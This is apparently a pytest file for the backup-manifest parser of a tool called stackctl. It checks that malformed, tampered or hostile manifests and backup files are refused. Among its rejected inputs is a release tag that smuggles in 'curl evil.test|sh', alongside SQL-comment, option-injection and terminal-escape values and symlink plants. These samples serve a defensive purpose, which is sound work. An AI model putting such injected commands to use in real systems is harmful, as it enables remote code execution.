"""stackctl reads from a backup's manifest exactly what stackctl wrote, and refuses anything else."""

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stackctl.backup import manifest
from stackctl.backup.manifest import DUMP, GLOBALS, NAME, RDB, STATE, File, Manifest, Offsite, Redis
from stackctl.core import openat
from stackctl.core.errors import FailedError
from tests.support.manifests import made

WHOLE = replace(
    made(1, redis=Redis("8.0.2", 5)),
    release={"id": "20251123T120000.000Z", "tag": "1.0.0", "what a newer stackctl adds": 1},
    schema="0003",
    offsite=Offsite("2025-11-23T12:05:00+00:00", "4f1c2d3e"),
)
SHA256 = "0" * 64
FILES = json.loads(WHOLE.to_json())["files"]
POSTGRES = json.loads(WHOLE.to_json())["postgres"]


OLD = """{
  "version": 2,
  "id": "20251123T120003.580Z",
  "app": "bot",
  "reason": "asked",
  "at": "2025-11-23T12:00:00+00:00",
  "sequence": 1,
  "release": {
    "id": "20251123T120000.000Z",
    "tag": "1.0.0",
    "image": "registry.lab.test/bot@sha256:1.0.0",
    "env_sha256": "e",
    "schema": "0001",
    "since": "2025-11-23T12:00:00+00:00"
  },
  "schema": "0001",
  "postgres": {"version": "17.11 (Debian 17.11-1.pgdg130+1)", "database": "app", "bytes": 7000000},
  "redis": {"version": "8.0.2", "keys": 5},
  "tables": {"public.offers": 12, "public.users": 3},
  "files": {
    "postgres.dump": {"bytes": 40, "sha256": "SUM"},
    "globals.sql": {"bytes": 2, "sha256": "SUM"},
    "state.json": {"bytes": 279, "sha256": "SUM"},
    "redis.rdb": {"bytes": 1, "sha256": "SUM"}
  },
  "verified": {"at": "2025-11-23T12:00:00+00:00", "seconds": 0.2, "rows": 15},
  "offsite": null
}
""".replace("SUM", SHA256)
COUNTS = st.integers(0, 2**63 - 1)


@given(st.dictionaries(st.text(min_size=1, max_size=127), COUNTS, max_size=5), COUNTS)
def test_what_was_written_is_read_again(tables: dict[str, int], sequence: int) -> None:
    written = replace(WHOLE, tables=tables, sequence=sequence)
    assert manifest.parse(written.to_json(), "it") == written
    least = replace(made(1, verified=False), tables=tables)
    assert manifest.parse(least.to_json(), "it") == least


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        ({"version": 1}, "version must be 2, but is 1"),
        ({"more": 1}, "more is unknown"),
        ({"id": "../20251123T000001.000Z"}, "id must be the ID of a backup"),
        ({"reason": "boredom"}, "reason must be one of nightly, asked, release, safety"),
        ({"at": "2025-11-23T12:00:00"}, "at must be a time of this millennium with its time zone"),
        ({"sequence": True}, "sequence must be a whole number, 0 or more"),
        ({"release": {"id": "20251123T120000.000Z"}}, "release must be null or a release with its id and tag"),
        ({"postgres": {"version": "17.11", "database": "app"}}, "postgres.bytes is missing"),
        ({"redis": {"version": "", "keys": 1}}, "redis.version must be a version"),
        ({"tables": {"public.offers": -1}}, "tables.public.offers must be a whole number, 0 or more"),
        (
            {"files": {"globals.sql": {"bytes": 1, "sha256": SHA256}}},
            "`files` lacks postgres.dump, `files` lacks redis.rdb, `files` lacks state.json",
        ),
        (
            {"files": {**FILES, "more.sql": FILES["globals.sql"]}},
            "`files` lists more.sql, which is not part of a backup",
        ),
        ({"redis": None}, "`files` lists redis.rdb, which is not part of a backup"),
        ({"files": {"postgres.dump": {"bytes": 1, "sha256": "0"}}}, "files.postgres.dump.sha256 must be a SHA-256"),
        (
            {"files": {name: {"bytes": 1, "sha256": SHA256} for name in ("postgres.dump", "../x")}},
            r"files has the key \.\./x, which must be the name of a backup's file",
        ),
        ({"postgres": {**POSTGRES, "version": "1" * 5000}}, "postgres.version must be a version"),
        ({"postgres": {**POSTGRES, "version": "17.11\n"}}, "postgres.version must be a version"),
        (
            {"postgres": {**POSTGRES, "version": "17.11", "bytes": 2**63}},
            "postgres.bytes must be a whole number, 0 or more",
        ),
        ({"postgres": {**POSTGRES, "database": "app; --"}}, "postgres.database must be the name of a database"),
        ({"app": "\x1b[2J"}, "app must be the name of an app"),
        ({"at": "0001-01-01T00:00:00+00:00"}, "at must be a time of this millennium with its time zone"),
        ({"sequence": 2**63}, "sequence must be a whole number, 0 or more"),
        ({"schema": "0003\x1b[31m"}, "schema must be null or a revision of the schema"),
        (
            {"release": {"id": "x", "tag": "1.0.0; curl evil.test|sh #"}},
            "release must be null or a release with its id and tag",
        ),
        ({"release": {"id": "x", "tag": "1" * 129}}, "release must be null or a release with its id and tag"),
        ({"tables": {"": 1}}, "tables has the key , which must be a schema and a table"),
        ({"tables": {"x" * 128: 1}}, f"tables has the key {'x' * 60}, which must be a schema and a table"),
        (
            {"verified": {"at": "2025-11-23T12:00:00+00:00", "seconds": 1e400, "rows": 1}},
            "verified.seconds must be a number, 0 or more",
        ),
        (
            {"offsite": {"at": "2025-11-23T12:00:00+00:00", "snapshot": "--password-command=x"}},
            "offsite.snapshot must be the ID of a snapshot",
        ),
        (
            {"verified": {"at": "today", "seconds": 1, "rows": 1}},
            "verified.at must be a time of this millennium with its time zone",
        ),
        (
            {"offsite": {"at": "2025-11-23T12:00:00+00:00", "snapshot": ""}},
            "offsite.snapshot must be the ID of a snapshot",
        ),
    ],
)
def test_a_manifest_that_contradicts_itself_is_refused_by_key(change: dict[str, Any], fault: str) -> None:
    document = json.loads(WHOLE.to_json()) | change
    with pytest.raises(FailedError, match=rf"^/there: {fault}\. Next: sudo stackctl backup"):
        manifest.parse(json.dumps(document), "/there")


@pytest.mark.parametrize("key", json.loads(WHOLE.to_json()))
def test_nothing_may_be_missing(key: str) -> None:
    document = json.loads(WHOLE.to_json())
    del document[key]
    with pytest.raises(FailedError, match=key):
        manifest.parse(json.dumps(document), "it")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        '{"version": 2',
        "\x00",
        "[" * 100_000,
        '{"sequence": 1' + "0" * 5000 + "}",
        " " * (manifest.LONGEST + 1),
    ],
    ids=["nothing", "a list", "torn", "no text", "too deep", "a number without end", "too long"],
)
def test_what_is_no_manifest_is_refused(text: str) -> None:
    with pytest.raises(FailedError, match="it"):
        manifest.parse(text, "it")


def test_a_directory_without_a_valid_manifest_is_named_and_does_not_count(tmp_path: Path) -> None:
    later, sooner, torn, another = made(2), made(1), made(3), made(4)
    for one in (later, sooner, torn, another):
        (tmp_path / one.id).mkdir()
        manifest.save(tmp_path / one.id, one)
    (tmp_path / torn.id / "manifest.json").write_text("{")
    manifest.save(tmp_path / another.id, later)
    (tmp_path / f"{made(5).id}.partial").mkdir()
    (tmp_path / "lost+found").mkdir()
    assert manifest.every(tmp_path) == [sooner, later]
    faults = manifest.unreadable(tmp_path)
    assert [torn.id in faults[0], f"is the manifest of another backup, {later.id}" in faults[1], len(faults)] == [
        True,
        True,
        2,
    ]


def test_a_manifest_that_could_not_be_read_is_not_written(tmp_path: Path) -> None:
    """A manifest contains output of containers, such as a version. Such output may be malformed."""
    one = made(1, redis=Redis("8.0.2\nverified: yes", 5))
    (tmp_path / one.id).mkdir()
    with pytest.raises(FailedError, match=r"manifest\.json: redis\.version must be a version"):
        manifest.save(tmp_path / one.id, one)
    assert list((tmp_path / one.id).iterdir()) == []


WHY = 'pg_restore of postgres.dump failed: ERROR:  relation "z" does not exist'


def test_only_an_unverified_backup_s_manifest_has_a_reason() -> None:
    """A verified backup's manifest lacks the key `unproven`, because an older stackctl refuses an unknown key."""
    unproven = made(1, verified=False, unproven=WHY)
    assert manifest.parse(unproven.to_json(), "here") == unproven
    assert "unproven" not in json.loads(made(1).to_json())


@pytest.mark.parametrize("why", ["", "x" * 501, "two\nlines", "\x1b[31mred", 7, True])
def test_the_reason_of_an_unverified_backup_is_one_printable_line(why: Any) -> None:
    document = json.loads(made(1, verified=False).to_json()) | {"unproven": why}
    with pytest.raises(FailedError, match="unproven must be null or a line of at most 500 characters"):
        manifest.parse(json.dumps(document), "here")


def test_a_verified_backup_has_no_reason_why_it_is_unverified() -> None:
    """A manifest that marks a backup both as verified and as unproven is refused."""
    document = json.loads(made(1).to_json()) | {"unproven": WHY}
    with pytest.raises(FailedError, match="the backup is marked both as verified and as unproven"):
        manifest.parse(json.dumps(document), "here")


def test_a_manifest_of_the_former_format_is_read(tmp_path: Path) -> None:
    """stackctl still reads the format that it wrote until November 2026."""
    directory = tmp_path / "20251123T120003.580Z"
    directory.mkdir()
    (directory / "manifest.json").write_text(OLD)
    (found,) = manifest.every(tmp_path)
    assert (found.postgres.major, found.redis, found.release) == (17, Redis("8.0.2", 5), json.loads(OLD)["release"])


@pytest.fixture
def whole(tmp_path: Path) -> tuple[Path, Manifest]:
    """Write a backup whose files match its manifest."""
    one = made(1, redis=Redis("8.0.2", 5))
    directory = tmp_path / one.id
    directory.mkdir()
    for name in one.files:
        (directory / name).write_bytes(b"1234")
    one = replace(one, files={name: manifest.describe(directory / name) for name in one.files})
    manifest.save(directory, one)
    return directory, one


def test_files_that_are_not_what_was_written_are_named(whole: tuple[Path, Manifest]) -> None:
    directory, told = whole
    assert told.files[DUMP] == File(4, "03ac674216f3e15c761ee1a5e255f067953623c8b388b4459e13f978d7c846f4")
    assert manifest.differing(directory, told) == []
    (directory / DUMP).write_bytes(b"123")
    (directory / GLOBALS).write_bytes(b"1235")
    (directory / STATE).unlink()
    assert manifest.differing(directory, told) == [
        f"{DUMP} has 3 bytes, but the manifest says 4",
        f"{GLOBALS} was changed since it was written (its SHA-256 differs)",
        f"{STATE} is missing",
    ]
    shutil.rmtree(directory)
    assert manifest.differing(directory, told) == [f"{name} is missing" for name in told.files]
    directory.mkdir()
    (directory / "empty").touch()
    with pytest.raises(FailedError, match="empty is empty"):
        manifest.describe(directory / "empty")


@pytest.mark.parametrize("name", [DUMP, GLOBALS, RDB, STATE, NAME])
@pytest.mark.parametrize(
    ("plant", "kind"),
    [
        (lambda path, other: path.symlink_to(other), "is a symbolic link, not a file"),
        (lambda path, other: path.hardlink_to(other), "has 2 names"),
        (lambda path, _: os.mkfifo(path), "is a FIFO, not a file"),
        (lambda path, _: path.mkdir(), "is a directory, not a file"),
    ],
    ids=["link", "hard link", "fifo", "directory"],
)
def test_a_link_or_fifo_is_a_fault_even_with_the_right_content(
    whole: tuple[Path, Manifest], name: str, plant: Callable[[Path, Path], None], kind: str
) -> None:
    """restic restores links, FIFOs and devices, so a hostile storage can send them."""
    directory, told = whole
    other = directory.parent / "other"
    (directory / name).rename(other)
    plant(directory / name, other)
    if name == NAME:
        with pytest.raises(FailedError, match=kind):
            manifest.load(directory)
        assert [kind in fault for fault in manifest.unreadable(directory.parent)] == [True]
    else:
        (fault,) = manifest.differing(directory, told)
        assert kind in fault


def test_a_file_that_the_manifest_does_not_list_is_a_fault(whole: tuple[Path, Manifest]) -> None:
    directory, told = whole
    (directory / f"{NAME}.new").touch()  # a killed save leaves this file
    assert manifest.differing(directory, told) == []
    (directory / "x\x1b[2J").mkdir()
    assert manifest.differing(directory, told) == [r"'x\x1b[2J' is not named in the manifest"]
    for number in range(20):
        (directory / f"x{number:02}").symlink_to("/")
    faults = manifest.differing(directory, told)
    assert (len(faults), faults[-1]) == (6, "and 16 more")


def test_a_file_that_is_swapped_while_it_is_compared_is_no_way_out(
    whole: tuple[Path, Manifest], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file with the right size may be swapped for /dev/zero, which never ends."""
    directory, told = whole
    real = openat.Directory.size

    def size(self: openat.Directory, name: str) -> int:
        found = real(self, name)
        if name == RDB:
            (directory / name).unlink()
            (directory / name).symlink_to("/dev/zero")
        return found

    monkeypatch.setattr(openat.Directory, "size", size)
    (fault,) = manifest.differing(directory, told)
    assert "redis.rdb is a symbolic link, not a file" in fault


@pytest.mark.parametrize("what", ["link", "file"])
def test_a_file_with_a_backup_s_name_is_reported(tmp_path: Path, what: str) -> None:
    path = tmp_path / made(1).id
    (path.symlink_to("/etc") if what == "link" else path.touch())
    assert manifest.every(tmp_path) == []
    assert [f"{path} is a " in fault for fault in manifest.unreadable(tmp_path)] == [True]


@pytest.mark.parametrize(
    "document", [{"version": "x" * 1_000_000}, {"version": 2} | {f"key{n}": 1 for n in range(100_000)}]
)
def test_the_faults_of_a_manifest_fit_on_one_line(document: dict[str, Any]) -> None:
    """The message has one line, because `status`, the journal and the history show it."""
    with pytest.raises(FailedError) as told:
        manifest.parse(json.dumps(document), "one")
    assert len(str(told.value)) < 2 * manifest.MOST_TOLD
